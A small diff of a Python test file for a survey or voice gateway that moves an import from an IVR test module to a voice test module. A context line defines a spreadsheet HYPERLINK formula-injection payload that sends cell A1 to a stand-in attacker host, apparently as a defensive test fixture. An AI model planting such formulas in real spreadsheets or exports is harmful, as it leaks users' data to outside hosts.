@@ -11,8 +11,8 @@ from sqlalchemy import func, select
 
 from gateway.models import Answer, Customer, Interaction, Message, SurveySession
 from tests.conftest import ACCOUNT_SID, PUBLIC_BASE_URL, twilio_signature
-from tests.ivr.conftest import Call, new_call_sid
 from tests.reports.factories import Seeder, at, report
+from tests.voice.conftest import Call, new_call_sid
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'
 
